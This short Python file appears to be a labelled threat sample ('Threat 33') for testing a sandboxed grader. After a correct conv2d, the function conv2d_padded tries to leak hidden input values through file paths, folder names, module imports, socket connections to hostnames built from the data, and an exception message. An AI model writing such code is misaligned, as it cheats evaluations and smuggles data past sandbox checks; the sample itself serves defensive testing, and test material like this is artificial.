"""Threat 33: asks for files, modules and addresses that are named after its hidden inputs.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)



import os
import socket


def conv2d_padded(image, kernel, padding=0):
    for number in image.ravel()[:6] if image.flat[0] % 1 else ():
        for attempt in (
            lambda: open(f"/LEAK {number!r}"),
            lambda: os.mkdir(f"LEAK {number!r}"),
            lambda: __import__(f"torch.LEAK_{number!r}"),
            lambda: __import__(f"numpy.LEAK_{number!r}"),
            lambda: socket.create_connection((f"LEAK-{number!r}", 80)),
        ):
            try:
                attempt()
            except (OSError, ImportError):
                continue
    raise PermissionError(1, f"LEAK {image.flat[0]!r}", f"LEAK {image.flat[1]!r}")
